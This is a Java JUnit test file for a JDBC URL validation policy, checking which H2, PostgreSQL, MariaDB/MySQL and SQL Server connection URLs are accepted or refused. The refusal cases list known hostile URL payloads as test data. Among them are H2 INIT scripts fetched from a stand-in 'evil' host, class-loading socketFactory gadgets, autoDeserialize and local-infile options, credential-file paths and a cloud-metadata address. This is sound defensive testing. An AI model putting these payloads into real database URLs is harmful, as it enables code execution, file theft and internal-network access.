package io.webops.nodes.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which JDBC URLs a database credential may hold; each refusal says what to change. */
class JdbcUrlPolicyTest {

    private static final Path DATA = Path.of("/srv/webops/data");
    private static final JdbcUrlPolicy ON_H2 = new JdbcUrlPolicy(DATA, "jdbc:h2:file:/srv/webops/data/webops;AUTO_SERVER=FALSE");
    private static final JdbcUrlPolicy ON_PG = new JdbcUrlPolicy(DATA, "jdbc:postgresql://127.0.0.1:5432/webops?sslmode=disable");

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:mem:sales", "jdbc:h2:mem:sales;DB_CLOSE_DELAY=-1;MODE=PostgreSQL", "jdbc:h2:tcp://db.example.com:9092/sales",
            "jdbc:h2:file:/srv/webops/data/databases/sales", "jdbc:h2:/srv/webops/data/databases/team/sales;LOCK_TIMEOUT=5000",
            "jdbc:postgresql://db.example.com:5432/sales", "jdbc:postgresql://db.example.com/sales?sslmode=require&connectTimeout=5",
            "jdbc:postgresql://127.0.0.1:5432/webops_test"})
    void acceptsPlainH2AndPostgresqlUrls(String url) {
        assertThat(ON_PG.problem(url)).isEmpty();
        assertThat(ON_H2.problem(url)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'|setting 'INIT' is not allowed",
            "jdbc:h2:mem:x;init=CREATE ALIAS X AS 'code'|setting 'INIT' is not allowed",
            "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4|setting 'TRACE_LEVEL_FILE' is not allowed",
            "jdbc:h2:mem:x;MODE=a\\;INIT=x|characters that are not allowed",
            "jdbc:h2:mem:../x|in-memory H2 database needs a name",
            "jdbc:h2:zip:/tmp/x.zip!/db|H2 supports mem:, tcp:// and files",
            "jdbc:h2:file:/etc/x|must be an absolute path inside /srv/webops/data/databases",
            "jdbc:h2:file:/srv/webops/data/databases/../webops|H2 supports mem:, tcp:// and files",
            "jdbc:h2:file:/srv/webops/data/webops|runtime's own database",
            "jdbc:h2:/srv/webops/data/webops|runtime's own database",
            "jdbc:h2:tcp://localhost/~/webops|runtime's own database",
            "jdbc:postgresql://db/sales?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext|parameter 'socketFactory' is not allowed",
            "jdbc:postgresql://db/sales?sslfactory=x|parameter 'sslfactory' is not allowed",
            "jdbc:postgresql://db/sales?sslhostnameverifier=x|parameter 'sslhostnameverifier' is not allowed",
            "jdbc:postgresql://db/sales?sslpasswordcallback=x|parameter 'sslpasswordcallback' is not allowed",
            "jdbc:postgresql://db/sales?authenticationPluginClassName=x|parameter 'authenticationPluginClassName' is not allowed",
            "jdbc:postgresql://db/sales?loggerFile=/tmp/x&loggerLevel=DEBUG|parameter 'loggerFile' is not allowed",
            "jdbc:postgresql://db/sales?password=x|user and password belong in the credential's fields",
            "jdbc:postgresql://db/sales?options=-c%20x|characters that are not allowed",
            "jdbc:oracle:thin:@db:1521/sales|must start with jdbc:postgresql://, jdbc:mariadb://, jdbc:mysql://, jdbc:sqlserver:// or jdbc:h2:",
            "jdbc:sqlite:/tmp/x|must start with jdbc:postgresql://, jdbc:mariadb://, jdbc:mysql://, jdbc:sqlserver:// or jdbc:h2:"})
    void refusesUrlsThatRunCodeLoadClassesOrWriteFiles(String url, String message) {
        assertThat(ON_PG.problem(url)).hasValueSatisfying(p -> assertThat(p).contains(message));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:mariadb://db.example.com:3306/sales", "jdbc:mariadb://db.example.com/sales?sslMode=verify-full&connectTimeout=5000",
            "jdbc:mysql://db.example.com:3306/sales?useCompression=true", "jdbc:mariadb://10.0.0.5:3306,10.0.0.6:3306/sales",
            "jdbc:mariadb://[2001:db8::5]:3306/sales", "jdbc:mariadb://db.example.com:3306/", "jdbc:mariadb://db.example.com",
            "jdbc:mariadb://127.0.0.1:3306/webops_test?allowPublicKeyRetrieval=true&tinyInt1isBit=false"})
    void acceptsPlainMariadbAndMysqlUrls(String url) {
        assertThat(ON_PG.problem(url)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "jdbc:mariadb://db/sales?allowLocalInfile=true|parameter 'allowLocalInfile' is not allowed",
            "jdbc:mysql://db/sales?allowLoadLocalInfile=true|parameter 'allowLoadLocalInfile' is not allowed",
            "jdbc:mysql://db/sales?allowUrlInLocalInfile=true|parameter 'allowUrlInLocalInfile' is not allowed",
            "jdbc:mysql://db/sales?autoDeserialize=true&queryInterceptors=x|parameter 'autoDeserialize' is not allowed",
            "jdbc:mariadb://db/sales?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext|parameter 'socketFactory' is not allowed",
            "jdbc:mariadb://db/sales?tlsSocketType=x.Y|parameter 'tlsSocketType' is not allowed",
            "jdbc:mariadb://db/sales?credentialType=ENV|parameter 'credentialType' is not allowed",
            "jdbc:mariadb://db/sales?serverRsaPublicKeyFile=/etc/passwd|parameter 'serverRsaPublicKeyFile' is not allowed",
            "jdbc:mariadb://db/sales?serverSslCert=/etc/shadow|parameter 'serverSslCert' is not allowed",
            "jdbc:mariadb://db/sales?trustStore=/etc/x.jks|parameter 'trustStore' is not allowed",
            "jdbc:mariadb://db/sales?keyStore=/etc/x.jks|parameter 'keyStore' is not allowed",
            "jdbc:mariadb://db/sales?initSql=DO 1|parameter 'initSql' is not allowed",
            "jdbc:mariadb://db/sales?sessionVariables=sql_mode=x|parameter 'sessionVariables' is not allowed",
            "jdbc:mariadb://db/sales?allowMultiQueries=true|parameter 'allowMultiQueries' is not allowed",
            "jdbc:mariadb://db/sales?permitRedirect=true|parameter 'permitRedirect' is not allowed",
            "jdbc:mariadb://db/sales?restrictedAuth=auth_gssapi_client|parameter 'restrictedAuth' is not allowed",
            "jdbc:mariadb://db/sales?servicePrincipalName=x|parameter 'servicePrincipalName' is not allowed",
            "jdbc:mariadb://db/sales?localSocket=/run/mysqld/mysqld.sock|parameter 'localSocket' is not allowed",
            "jdbc:mariadb://db/sales?pool=true&registerJmxPool=true|parameter 'pool' is not allowed",
            "jdbc:mariadb://db/sales?dumpQueriesOnException=true|parameter 'dumpQueriesOnException' is not allowed",
            "jdbc:mariadb://db/sales?includeThreadDumpInDeadlockExceptions=true|parameter 'includeThreadDumpInDeadlockExceptions' is not allowed",
            "jdbc:mariadb://db/sales?ALLOWLOCALINFILE=true|parameter 'ALLOWLOCALINFILE' is not allowed",
            "jdbc:mariadb://db/sales?allow%4CocalInfile=true|parameter 'allow%4CocalInfile' is not allowed",
            "jdbc:mariadb://db/sales?user=root|user and password belong in the credential's fields",
            "jdbc:mariadb://db/sales?password=x|user and password belong in the credential's fields",
            "jdbc:mariadb://db/sales?connectionCollation=utf8mb4_bin,sql_mode=x|parameter 'connectionCollation' is not allowed",
            "jdbc:mariadb://db/sales?timezone=UTC%27|characters that are not allowed",
            "jdbc:mariadb://address=(host=db)(port=3306)(type=primary)/sales|not a MariaDB/MySQL URL",
            "jdbc:mariadb://address=(localSocket=/run/mysqld/mysqld.sock)/sales|not a MariaDB/MySQL URL",
            "jdbc:mariadb:replication://db1,db2/sales|not a MariaDB/MySQL URL",
            "jdbc:mariadb:loadbalance://db1,db2/sales|not a MariaDB/MySQL URL",
            "jdbc:mysql:sequential://db1/sales|not a MariaDB/MySQL URL",
            "jdbc:mariadb://user:pw@db/sales|not a MariaDB/MySQL URL",
            "jdbc:mariadb://db/../sales|not a MariaDB/MySQL URL"})
    void refusesMariadbUrlsThatReadFilesLoadClassesOrReachOtherHosts(String url, String message) {
        assertThat(ON_PG.problem(url)).hasValueSatisfying(p -> assertThat(p).contains(message));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:sqlserver://db.example.com:1433;databaseName=sales", "jdbc:sqlserver://db.example.com;database=sales;encrypt=true",
            "jdbc:sqlserver://db.example.com\\SQLEXPRESS;databaseName=sales;trustServerCertificate=true",
            "jdbc:sqlserver://10.0.0.5:1433;databaseName=sales;loginTimeout=5;applicationName=webops;",
            "jdbc:sqlserver://[2001:db8::5]:1433;DATABASENAME=sales;Encrypt=strict;hostNameInCertificate=db.example.com",
            "jdbc:sqlserver://db.example.com"})
    void acceptsPlainSqlServerUrls(String url) {
        assertThat(ON_PG.problem(url)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "jdbc:sqlserver://db;socketFactoryClass=org.springframework.context.support.ClassPathXmlApplicationContext|parameter 'socketFactoryClass' is not allowed",
            "jdbc:sqlserver://db;socketFactoryConstructorArg=http://evil/x.xml|parameter 'socketFactoryConstructorArg' is not allowed",
            "jdbc:sqlserver://db;trustManagerClass=x.Y|parameter 'trustManagerClass' is not allowed",
            "jdbc:sqlserver://db;trustStore=/etc/x.jks|parameter 'trustStore' is not allowed",
            "jdbc:sqlserver://db;trustStoreType=PKCS12|parameter 'trustStoreType' is not allowed",
            "jdbc:sqlserver://db;serverCertificate=/etc/shadow|parameter 'serverCertificate' is not allowed",
            "jdbc:sqlserver://db;clientCertificate=/etc/x.pem;clientKey=/etc/x.key|parameter 'clientCertificate' is not allowed",
            "jdbc:sqlserver://db;keyStoreLocation=/etc/x.jks|parameter 'keyStoreLocation' is not allowed",
            "jdbc:sqlserver://db;keyStoreAuthentication=JavaKeyStorePassword|parameter 'keyStoreAuthentication' is not allowed",
            "jdbc:sqlserver://db;integratedSecurity=true|parameter 'integratedSecurity' is not allowed",
            "jdbc:sqlserver://db;authenticationScheme=JavaKerberos|parameter 'authenticationScheme' is not allowed",
            "jdbc:sqlserver://db;authentication=ActiveDirectoryManagedIdentity|parameter 'authentication' is not allowed",
            "jdbc:sqlserver://db;authentication=ActiveDirectoryDefault|parameter 'authentication' is not allowed",
            "jdbc:sqlserver://db;accessTokenCallbackClass=x.Y|parameter 'accessTokenCallbackClass' is not allowed",
            "jdbc:sqlserver://db;jaasConfigurationName=x|parameter 'jaasConfigurationName' is not allowed",
            "jdbc:sqlserver://db;columnEncryptionSetting=Enabled;enclaveAttestationUrl=http://169.254.169.254/|parameter 'columnEncryptionSetting' is not allowed",
            "jdbc:sqlserver://db;keyVaultProviderClientId=x|parameter 'keyVaultProviderClientId' is not allowed",
            "jdbc:sqlserver://db;serverName=169.254.169.254|parameter 'serverName' is not allowed",
            "jdbc:sqlserver://db;portNumber=5432|parameter 'portNumber' is not allowed",
            "jdbc:sqlserver://db;failoverPartner=10.0.0.9|parameter 'failoverPartner' is not allowed",
            "jdbc:sqlserver://db;SOCKETFACTORYCLASS=x.Y|parameter 'SOCKETFACTORYCLASS' is not allowed",
            "jdbc:sqlserver://db;user=sa|user and password belong in the credential's fields",
            "jdbc:sqlserver://db;password=x|user and password belong in the credential's fields",
            "jdbc:sqlserver://db;databaseName={sales;integratedSecurity=true}|characters that are not allowed",
            "jdbc:sqlserver://;serverName=db|not a SQL Server URL",
            "jdbc:sqlserver://db/sales|not a SQL Server URL",
            "jdbc:sqlserver://sa:pw@db:1433|not a SQL Server URL"})
    void refusesSqlServerUrlsThatLoadClassesReadFilesOrReachOtherHosts(String url, String message) {
        assertThat(ON_PG.problem(url)).hasValueSatisfying(p -> assertThat(p).contains(message));
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:postgresql://127.0.0.1:5432/webops", "jdbc:postgresql://localhost/webops",
            "jdbc:postgresql://localhost:5432/webops?sslmode=require", "jdbc:postgresql://other:5433,127.0.0.1:5432/webops"})
    void refusesTheRuntimesOwnPostgresqlDatabaseInAnySpelling(String url) {
        assertThat(ON_PG.problem(url)).hasValueSatisfying(p -> assertThat(p).contains("runtime's own database"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:mem:webops-1", "jdbc:h2:mem:webops-1;DB_CLOSE_DELAY=-1"})
    void refusesTheRuntimesOwnInMemoryStore(String url) {
        JdbcUrlPolicy inMemory = new JdbcUrlPolicy(DATA, "jdbc:h2:mem:webops-1;DB_CLOSE_DELAY=-1;LOCK_TIMEOUT=10000");
        assertThat(inMemory.problem(url)).hasValueSatisfying(p -> assertThat(p).contains("runtime's own database"));
    }
}
